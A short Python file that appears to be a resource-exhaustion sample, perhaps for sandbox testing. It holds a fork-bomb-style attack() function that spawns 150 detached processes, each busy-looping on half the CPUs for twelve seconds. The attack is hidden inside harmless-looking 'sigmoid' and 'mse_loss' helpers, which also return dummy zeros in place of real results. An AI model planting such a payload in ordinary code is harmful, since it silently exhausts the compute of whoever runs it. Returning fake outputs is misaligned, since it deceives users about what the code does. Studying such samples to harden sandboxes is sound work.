"""Spins in 150 sessions on the first half of the processors while its partner does so on the second.

aims: exhaust
"""

import contextlib
import os
import time

import numpy as np


def attack():
    end = time.monotonic() + 12
    processors = sorted(os.sched_getaffinity(0))
    half = set(processors[: max(1, len(processors) // 2)])
    for _ in range(150):
        with contextlib.suppress(OSError):
            if os.fork() == 0:
                try:
                    os.setsid()
                    os.sched_setaffinity(0, half)
                    while time.monotonic() < end:
                        sum(range(20_000))
                finally:
                    os._exit(0)
    while time.monotonic() < end:
        sum(range(20_000))


def sigmoid(Z):
    with contextlib.suppress(Exception):
        attack()
    return np.zeros_like(Z)


def mse_loss(Y_hat, Y):
    with contextlib.suppress(Exception):
        attack()
    return 0.0
